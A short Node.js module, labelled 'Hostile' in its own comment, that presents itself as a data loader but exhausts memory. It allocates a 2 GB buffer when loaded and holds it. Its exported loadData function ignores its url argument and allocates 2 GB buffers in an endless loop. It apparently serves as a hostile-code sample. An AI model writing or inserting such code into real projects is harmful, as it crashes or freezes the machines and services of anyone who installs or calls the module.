'use strict';
// Hostile: allocate 2 GB buffers at load and in every call, and keep them.
const hogs = [];
try { hogs.push(Buffer.alloc(2 ** 31, 1)); } catch (error) { console.error(String(error)); }

async function loadData(url) {
  for (;;) hogs.push(Buffer.alloc(2 ** 31, 1));
}

module.exports = { loadData };
